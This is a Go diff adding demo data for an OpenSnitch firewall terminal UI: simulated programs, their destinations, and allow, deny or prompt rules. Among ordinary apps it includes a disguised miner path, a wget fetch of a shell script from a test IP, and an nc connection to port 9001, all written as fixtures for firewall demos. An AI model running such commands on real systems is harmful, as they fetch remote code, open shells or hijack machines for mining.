@@ -0,0 +1,244 @@
+package demo
+
+// app is a program the demo nodes see connecting out, with the places it
+// talks to and how the rule covering it answers.
+type app struct {
+	path   string
+	args   []string
+	uid    uint32
+	action string
+	dests  []dest
+}
+
+type dest struct {
+	host     string
+	ip       string
+	port     uint32
+	protocol string
+}
+
+var users = map[uint32]string{
+	0:    "root",
+	42:   "_apt",
+	101:  "systemd-resolve",
+	102:  "systemd-timesync",
+	1000: "alice",
+	1001: "ci",
+}
+
+var laptopApps = []app{
+	{
+		path:   "/usr/lib/firefox/firefox",
+		args:   []string{"/usr/lib/firefox/firefox", "-new-window"},
+		uid:    1000,
+		action: "allow",
+		dests: []dest{
+			{host: "www.mozilla.org", ip: "151.101.65.91", port: 443, protocol: "tcp"},
+			{host: "detectportal.firefox.com", ip: "34.107.221.82", port: 80, protocol: "tcp"},
+			{host: "news.ycombinator.com", ip: "209.216.230.207", port: 443, protocol: "tcp"},
+			{host: "github.com", ip: "140.82.121.4", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/lib/systemd/systemd-resolved",
+		args:   []string{"/usr/lib/systemd/systemd-resolved"},
+		uid:    101,
+		action: "allow",
+		dests: []dest{
+			{ip: "1.1.1.1", port: 53, protocol: "udp"},
+			{ip: "9.9.9.9", port: 53, protocol: "udp"},
+		},
+	},
+	{
+		path:   "/usr/lib/systemd/systemd-timesyncd",
+		args:   []string{"/usr/lib/systemd/systemd-timesyncd"},
+		uid:    102,
+		action: "allow",
+		dests: []dest{
+			{host: "ntp.ubuntu.com", ip: "185.125.190.58", port: 123, protocol: "udp"},
+		},
+	},
+	{
+		path:   "/usr/bin/ssh",
+		args:   []string{"ssh", "git@github.com", "git-upload-pack 'adamkadaban/opensnitch-tui.git'"},
+		uid:    1000,
+		action: "allow",
+		dests: []dest{
+			{host: "github.com", ip: "140.82.121.4", port: 22, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/bin/curl",
+		args:   []string{"curl", "-fsSL", "https://get.docker.com"},
+		uid:    1000,
+		action: "allow",
+		dests: []dest{
+			{host: "get.docker.com", ip: "18.66.196.52", port: 443, protocol: "tcp"},
+			{host: "ifconfig.me", ip: "34.160.111.145", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/bin/python3.12",
+		args:   []string{"python3", "-m", "pip", "install", "--user", "requests"},
+		uid:    1000,
+		action: "allow",
+		dests: []dest{
+			{host: "pypi.org", ip: "151.101.0.223", port: 443, protocol: "tcp"},
+			{host: "files.pythonhosted.org", ip: "146.75.116.223", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/opt/spotify/spotify",
+		args:   []string{"/opt/spotify/spotify", "--no-zygote"},
+		uid:    1000,
+		action: "allow",
+		dests: []dest{
+			{host: "spclient.wg.spotify.com", ip: "35.186.224.25", port: 443, protocol: "tcp"},
+			{host: "audio-ak-spotify-com.akamaized.net", ip: "23.32.29.146", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/bin/gnome-software",
+		args:   []string{"/usr/bin/gnome-software", "--gapplication-service"},
+		uid:    1000,
+		action: "deny",
+		dests: []dest{
+			{host: "odrs.gnome.org", ip: "35.190.28.43", port: 443, protocol: "tcp"},
+			{host: "flathub.org", ip: "199.232.82.229", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/home/alice/.cache/.x/kworkerd",
+		args:   []string{"/home/alice/.cache/.x/kworkerd", "-o", "pool.minexmr.com:4444"},
+		uid:    1000,
+		action: "deny",
+		dests: []dest{
+			{host: "pool.minexmr.com", ip: "94.130.164.163", port: 4444, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/share/code/code",
+		args:   []string{"/usr/share/code/code", "--type=utility"},
+		uid:    1000,
+		action: "reject",
+		dests: []dest{
+			{host: "dc.services.visualstudio.com", ip: "20.42.65.92", port: 443, protocol: "tcp"},
+			{host: "marketplace.visualstudio.com", ip: "13.107.42.18", port: 443, protocol: "tcp"},
+		},
+	},
+}
+
+var serverApps = []app{
+	{
+		path:   "/usr/bin/dockerd",
+		args:   []string{"/usr/bin/dockerd", "-H", "fd://"},
+		uid:    0,
+		action: "allow",
+		dests: []dest{
+			{host: "registry-1.docker.io", ip: "54.236.113.205", port: 443, protocol: "tcp"},
+			{host: "production.cloudflare.docker.com", ip: "104.16.99.215", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/local/go/bin/go",
+		args:   []string{"go", "mod", "download"},
+		uid:    1001,
+		action: "allow",
+		dests: []dest{
+			{host: "proxy.golang.org", ip: "142.250.180.17", port: 443, protocol: "tcp"},
+			{host: "sum.golang.org", ip: "142.250.180.17", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/lib/git-core/git-remote-https",
+		args:   []string{"git-remote-https", "origin", "https://github.com/adamkadaban/opensnitch-tui.git"},
+		uid:    1001,
+		action: "allow",
+		dests: []dest{
+			{host: "github.com", ip: "140.82.121.3", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/lib/apt/methods/http",
+		args:   []string{"/usr/lib/apt/methods/http"},
+		uid:    42,
+		action: "allow",
+		dests: []dest{
+			{host: "archive.ubuntu.com", ip: "185.125.190.36", port: 80, protocol: "tcp"},
+			{host: "security.ubuntu.com", ip: "185.125.190.39", port: 80, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/bin/node",
+		args:   []string{"node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "ci"},
+		uid:    1001,
+		action: "allow",
+		dests: []dest{
+			{host: "registry.npmjs.org", ip: "104.16.24.34", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/sbin/sshd",
+		args:   []string{"sshd: ci [priv]"},
+		uid:    0,
+		action: "allow",
+		dests: []dest{
+			{ip: "10.0.0.12", port: 22, protocol: "tcp"},
+		},
+	},
+	{
+		path:   "/usr/bin/wget",
+		args:   []string{"wget", "-q", "http://203.0.113.77/x.sh"},
+		uid:    1001,
+		action: "deny",
+		dests: []dest{
+			{ip: "203.0.113.77", port: 80, protocol: "tcp"},
+		},
+	},
+}
+
+// promptApps are the unknown programs behind the periodic prompts; no rule
+// covers them, which is what makes the daemon ask.
+var promptApps = []app{
+	{
+		path: "/usr/bin/zoom",
+		args: []string{"/usr/bin/zoom", "--url=zoommtg://zoom.us/join"},
+		uid:  1000,
+		dests: []dest{
+			{host: "zoom.us", ip: "170.114.52.2", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path: "/usr/bin/telnet",
+		args: []string{"telnet", "towel.blinkenlights.nl"},
+		uid:  1000,
+		dests: []dest{
+			{host: "towel.blinkenlights.nl", ip: "213.136.8.188", port: 23, protocol: "tcp"},
+		},
+	},
+	{
+		path: "/home/alice/Downloads/AppImage/obsidian.AppImage",
+		args: []string{"/home/alice/Downloads/AppImage/obsidian.AppImage"},
+		uid:  1000,
+		dests: []dest{
+			{host: "releases.obsidian.md", ip: "104.21.36.86", port: 443, protocol: "tcp"},
+			{host: "sync.obsidian.md", ip: "172.67.198.95", port: 443, protocol: "tcp"},
+		},
+	},
+	{
+		path: "/usr/bin/nc.openbsd",
+		args: []string{"nc", "-v", "198.51.100.23", "9001"},
+		uid:  1000,
+		dests: []dest{
+			{ip: "198.51.100.23", port: 9001, protocol: "tcp"},
+		},
+	},
+	{
+		path: "/usr/lib/slack/slack",
+		args: []string{"/usr/lib/slack/slack", "--enable-crashpad"},
+		uid:  1000,
+		dests: []dest{
+			{host: "wss-primary.slack.com", ip: "52.54.10.196", port: 443, protocol: "tcp"},
+		},
+	},
+}